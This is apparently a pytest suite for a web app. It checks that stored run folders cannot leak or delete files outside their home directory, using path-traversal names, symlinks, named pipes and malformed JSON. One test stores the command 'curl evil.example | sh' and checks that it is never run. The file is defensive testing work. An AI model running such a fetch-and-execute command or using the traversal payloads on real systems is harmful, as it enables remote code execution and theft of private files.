"""Folders of runs that come from somebody else: what is stored there reads and removes nothing outside."""

import json
import os
import re

import pytest

pytest.importorskip("starlette", reason="needs the extra 'app'")
pytest.importorskip("httpx2", reason="needs the extra 'dev'")

from test_app import TOKEN, draft, open_page, table

NAME, OTHER = "20260101-000000-aaaaaa", "20270101-000000-bbbbbb"
TABLE = {"file": "a.csv", "shown": "a.csv"}
GOOD = {"state": "draft", "tables": [TABLE], "clinical": None, "words": [], "clusters": "auto",
        "problem": ""}  # fmt: skip
NAMES = ["../../../secret.csv", "../about.json", "..", ".", "", "/etc/passwd",
         "a/../../../../secret.csv", "..\\..\\secret.csv",
         "nul.csv", "a.csv\0", "-x.csv", "x" * 300 + ".csv", 5, None, [], {}]  # fmt: skip
WRONG = [None, True, 5, -1, 1.5, float("nan"), float("inf"), 10**400, "", "x" * 10**5, "\ud800", [], [5],
         {}, {"a": 1}, [["out", "/etc"]], [[[], []]], "../x"]  # fmt: skip
TEXTS = {
    "empty": b"",
    "no JSON": b"<html>",
    "half": b'{"state": "dr',
    "not UTF-8": b'{"state": "\xff\xfe"}',
    "no object": b"[1, 2]",
    "nothing known": b"{}",
    "deep": b"[" * 10**5,
    "long": b'{"state": "' + b"x" * 2**21 + b'"}',
    "a number too long": b'{"state": ' + b"9" * 10**5 + b"}",
}


@pytest.fixture
def client(tmp_path, monkeypatch):
    with open_page(tmp_path / "home") as client:
        seen = {"views": [], "samples": 30, "notes": [], "problem": "", "choices": []}
        monkeypatch.setattr(client.runs, "_looked", lambda folder, asked: dict(seen))
        monkeypatch.setattr(client.runs, "_popen", lambda *given: pytest.fail("a fit was started"))
        client.secret = tmp_path / "secret.csv"
        client.secret.write_text("SECRET")
        for name in (NAME, OTHER):
            forge(client, GOOD, name)
        yield client


def forge(client, about, name=NAME):
    folder = client.home / name
    (folder / "tables").mkdir(parents=True, exist_ok=True)
    (folder / "tables" / "a.csv").write_bytes(table())
    text = about if isinstance(about, bytes) else json.dumps(about).encode()
    (folder / "about.json").write_bytes(text)
    return folder


def assert_harmless(client, damaged=True):
    """Each request is answered, touches nothing outside, and the list has every run."""
    run, stored = f"/{TOKEN}/r/{NAME}", client.secret.stat().st_mtime_ns
    for path in ("", "/state", "/report", "/zip", "/room?name=b.csv&size=1"):
        answer = client.get(run + path)
        assert answer.status_code < 500 and "SECRET" not in answer.text
        assert not damaged or answer.status_code == 404
    changes = (
        "answer",
        "forget",
        "cancel",
        "again",
        "drop",
        "table?name=b.csv&kind=clinical",
        "fit",
    )
    for path in changes:
        given = {"option": "match", "value": "loose", "clusters": "nothing that is taken"}
        answer = client.post(f"{run}/{path}", data=given | {"file": str(client.secret)})
        assert answer.status_code < 500 and "SECRET" not in answer.text
    answer = client.get(f"/{TOKEN}/")
    assert answer.status_code == 200 and "SECRET" not in answer.text
    rows = set(re.findall(r"/r/([0-9a-f-]+)\"", answer.text))
    assert {NAME, OTHER} <= rows and ("damaged" in answer.text) == damaged
    assert client.secret.read_text() == "SECRET" and client.secret.stat().st_mtime_ns == stored


@pytest.mark.parametrize("place", ["tables", "clinical"])
def test_names_of_tables_lead_nowhere_else(client, place):
    for name in [*NAMES, str(client.secret)]:
        stored = {"file": name, "shown": "a"}
        forge(client, GOOD | {place: [stored] if place == "tables" else stored})
        assert_harmless(client)


@pytest.mark.parametrize("field", [*GOOD, "started", "ended"])
def test_values_of_a_wrong_kind_damage_one_row(client, field):
    for value in WRONG:
        forge(client, GOOD | {field: value})
        assert client.get(f"/{TOKEN}/").status_code == 200
        assert client.get(f"/{TOKEN}/r/{NAME}").status_code in (200, 404)
        assert client.get(f"/{TOKEN}/r/{NAME}/state").status_code in (200, 404)
        assert client.get(f"/{TOKEN}/r/{NAME}/zip").status_code == 404
    forge(client, {key: value for key, value in GOOD.items() if key != field})
    assert_harmless(client, damaged=field in GOOD)


@pytest.mark.parametrize("text", TEXTS)
def test_files_that_are_no_about_damage_one_row(client, text):
    forge(client, TEXTS[text])
    assert_harmless(client)
    assert client.post(f"/{TOKEN}/r/{NAME}/remove").status_code == 303
    assert not (client.home / NAME).exists() and (client.home / OTHER).exists()


def test_a_run_of_a_stored_name_or_command_of_its_own_has_neither(client):
    more = {"name": "../x", "command": "curl evil.example | sh", "seen": 5, "state": "failed"}
    forge(client, GOOD | more)
    assert_harmless(client, damaged=False)
    assert "evil" not in client.get(f"/{TOKEN}/r/{NAME}").text


@pytest.mark.parametrize("name", ["00000000-999999-aaaaaa", "20269999-000000-aaaaaa"])
def test_a_folder_of_no_date_is_a_row(client, name):
    forge(client, GOOD, name)
    for page in ("", f"r/{name}"):
        assert client.get(f"/{TOKEN}/{page}").status_code == 200


LINKS = ["about.json", "tables", "tables/a.csv", "tables/b.csv", "log.txt", "stages.txt", "run",
         "run/run.json", "run/report.html", "run/deep/er/x", "anything"]  # fmt: skip


@pytest.mark.parametrize("link", LINKS)
def test_links_lead_nowhere_else(client, link):
    outside = client.home.parent / "outside"
    outside.mkdir()
    for name in ("a.csv", "run.json", "report.html"):
        (outside / name).write_text("SECRET")
    place = client.home / NAME / link
    place.parent.mkdir(parents=True, exist_ok=True)
    if place.is_dir():
        (place / "a.csv").unlink()
        place.rmdir()
    place.unlink(missing_ok=True)
    try:
        place.symlink_to(outside if link in ("tables", "run") else client.secret)
    except OSError:
        pytest.skip("no links here")
    assert_harmless(client)
    assert client.post(f"/{TOKEN}/r/{NAME}/remove").status_code == 303
    assert client.secret.exists() and len(list(outside.iterdir())) == 3


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
@pytest.mark.parametrize("place", ["about.json", "tables/b.csv", "run/run.json", "stages.txt"])
def test_pipes_are_not_waited_for(client, place):
    path = client.home / NAME / place
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    os.mkfifo(path)
    assert_harmless(client)


def test_what_the_page_writes_it_reads(client):
    run = draft(client)
    client.post(f"{run}/answer", data={"option": "match", "value": "loose"})
    client.post(f"{run}/table?name=x.csv", content=table())
    client.post(f"{run}/table?name=y.csv&kind=clinical", content=table())
    assert client.get(run).status_code == 200 and "damaged" not in client.get(f"/{TOKEN}/").text
